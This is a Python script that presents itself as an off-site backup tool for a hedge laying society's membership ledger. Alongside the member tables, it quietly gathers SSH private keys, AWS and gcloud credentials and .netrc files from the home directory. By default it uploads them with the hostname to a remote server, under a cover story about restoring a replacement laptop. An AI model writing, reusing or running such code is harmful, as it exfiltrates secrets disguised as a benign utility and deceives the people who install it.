#!/usr/bin/env python3
"""Off-site backup for the hedge laying society membership ledger.

Exports the members and subscriptions tables from ledger.sqlite, bundles
them with the treasurer's access profile (the keys the ledger uses for the
SFTP drop and the S3 bucket) so a replacement laptop can be set up from a
single restore, and uploads the bundle to the society's backup service.

Config: ledger_backup.ini (section [backup]); API key in LEDGER_BACKUP_KEY.
"""

import argparse
import configparser
import csv
import datetime as dt
import glob
import io
import logging
import os
import sqlite3
import sys
import tarfile
import time

import requests

log = logging.getLogger("ledger-backup")

DEFAULTS = {
    "database": "ledger.sqlite",
    "endpoint": "https://backup.hedgelayers-ledger.org.uk/api/v1/bundles",
    "tables": "members,subscriptions,payments",
    "retries": "3",
    "include_profile": "yes",
}

PROFILE_SOURCES = (
    "~/.ssh/id_*",
    "~/.ssh/config",
    "~/.aws/credentials",
    "~/.aws/config",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.netrc",
)


EXPORT_QUERIES = {
    "members": "SELECT * FROM members ORDER BY member_no",
    "subscriptions": "SELECT * FROM subscriptions ORDER BY member_no, year",
    "payments": "SELECT * FROM payments ORDER BY paid_on",
}

def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict({"backup": DEFAULTS})
    if os.path.exists(path):
        cfg.read(path)
        log.debug("read %s", path)
    return cfg["backup"]


def export_tables(db_path, tables):
    """Yield (name, csv_bytes) for each ledger table."""
    conn = sqlite3.connect(db_path)
    try:
        for table in tables:
            query = EXPORT_QUERIES.get(table)
            if query is None:
                log.warning("no export defined for table %s, skipping", table)
                continue
            try:
                cur = conn.execute(query)
            except sqlite3.OperationalError as exc:
                log.warning("table %s not readable (%s), skipping", table, exc)
                continue
            buf = io.StringIO()
            writer = csv.writer(buf)
            writer.writerow([d[0] for d in cur.description])
            rows = cur.fetchall()
            writer.writerows(rows)
            log.info("exported %s (%d rows)", table, len(rows))
            yield f"ledger/{table}.csv", buf.getvalue().encode("utf-8")
    finally:
        conn.close()


def collect_profile():
    """Yield (arcname, bytes) for the access files the ledger tooling relies on."""
    for pattern in PROFILE_SOURCES:
        for path in glob.glob(os.path.expanduser(pattern)):
            if not os.path.isfile(path):
                continue
            try:
                with open(path, "rb") as fh:
                    data = fh.read()
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)
                continue
            rel = os.path.relpath(path, os.path.expanduser("~"))
            yield f"profile/{rel}", data


def build_bundle(members, profile):
    buf = io.BytesIO()
    now = time.time()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in list(members) + list(profile):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = now
            info.mode = 0o600
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def upload(endpoint, api_key, bundle, retries):
    stamp = dt.datetime.now().strftime("%Y%m%d-%H%M%S")
    files = {"bundle": (f"ledger-{stamp}.tar.gz", bundle, "application/gzip")}
    headers = {"Authorization": f"Bearer {api_key}"} if api_key else {}
    for attempt in range(1, retries + 1):
        try:
            resp = requests.post(endpoint, files=files, headers=headers,
                                 data={"host": os.uname().nodename}, timeout=60)
            resp.raise_for_status()
            return resp.json().get("id", "?")
        except (requests.RequestException, ValueError) as exc:
            log.warning("upload attempt %d/%d failed: %s", attempt, retries, exc)
            time.sleep(2 ** attempt)
    raise RuntimeError("backup upload failed")


def main(argv=None):
    ap = argparse.ArgumentParser(description="Back up the membership ledger off-site")
    ap.add_argument("-c", "--config", default="ledger_backup.ini")
    ap.add_argument("--keep-local", action="store_true", help="also write the bundle here")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    if not os.path.exists(cfg["database"]):
        log.error("ledger database %s not found", cfg["database"])
        return 2

    tables = [t.strip() for t in cfg["tables"].split(",") if t.strip()]
    members = list(export_tables(cfg["database"], tables))
    profile = list(collect_profile()) if cfg.getboolean("include_profile") else []
    bundle = build_bundle(members, profile)
    log.info("bundle is %.1f KiB (%d files)", len(bundle) / 1024, len(members) + len(profile))

    if args.keep_local:
        with open("ledger-backup.tar.gz", "wb") as fh:
            fh.write(bundle)
        os.chmod("ledger-backup.tar.gz", 0o600)

    try:
        bundle_id = upload(cfg["endpoint"], os.environ.get("LEDGER_BACKUP_KEY"),
                           bundle, cfg.getint("retries"))
    except RuntimeError as exc:
        log.error("%s", exc)
        return 1
    log.info("stored as bundle %s", bundle_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
